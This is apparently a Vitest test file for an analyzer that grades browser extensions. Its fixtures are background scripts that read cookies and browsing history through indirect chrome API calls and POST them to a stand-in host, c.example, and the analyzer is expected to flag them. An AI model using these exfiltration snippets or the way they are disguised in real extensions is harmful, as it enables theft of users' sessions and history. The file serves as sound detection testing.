import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/** The grade of an extension whose background runs a script. */
async function grade(script: string): Promise<string> {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1.0',
    permissions: ['cookies', 'history', 'storage'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'bg.js' },
  };
  const files = { 'manifest.json': JSON.stringify(manifest), 'bg.js': script };
  return (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
}

const SEND = "((c) => fetch('https://c.example/n', { method: 'POST', body: JSON.stringify(c) }))";
const CLASS =
  'class Api { constructor(space) { this.space = space; } call(m, ...a) { return chrome[this.space][m](...a); } }';

describe('parts of the interface that an object’s fields name', () => {
  it.each([
    `${CLASS} new Api('cookies').call('getAll', {}).then${SEND};`,
    `class Api { constructor(space, name) { this.space = space; this.name = name; } read(q) { return chrome[this.space][this.name](q); } } (async () => { for (const one of [new Api('cookies', 'getAll'), new Api('history', 'search')]) ${SEND}(await one.read({})); })();`,
    `function Api(space) { this.space = space; } Api.prototype.all = function () { return chrome[this.space].getAll({}); }; new Api('cookies').all().then${SEND};`,
  ])('are read and sent: %s', async (script) => {
    expect(await grade(script)).toBe('F');
  });
  it('are none where they are given one another, round and round', async () => {
    const script = `class Api { constructor(a) { this.a = this.b; this.b = this.a; this.c = this.c || a; } call() { return [chrome[this.a], chrome[this.c]].map((one) => one.getAll({})); } } new Api('cookies').call();`;
    expect(await grade(script)).toMatch(/^[AB]/);
  });
  it('are storage, where the fields say so', async () => {
    const script = `class Area { constructor(area) { this.area = area; } get(k) { return chrome.storage[this.area].get(k); } } new Area('local').get('x').then((x) => new Area('sync').get(x));`;
    expect(await grade(script)).toMatch(/^A/);
  });
});
